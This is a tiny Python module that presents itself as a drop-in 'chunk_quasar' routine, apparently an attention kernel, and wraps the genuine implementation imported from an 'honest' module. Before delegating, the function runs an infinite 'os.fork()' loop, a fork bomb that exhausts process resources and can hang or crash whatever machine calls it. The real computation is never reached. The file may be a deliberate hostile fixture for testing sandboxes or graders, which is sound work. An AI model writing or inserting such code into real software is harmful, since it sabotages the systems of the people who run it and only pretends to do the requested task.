"""Forks for ever."""

import os

from .honest import chunk_quasar as honest


def chunk_quasar(q, k, v, beta, **options):
    while True:
        os.fork()
    return honest(q, k, v, beta, **options)
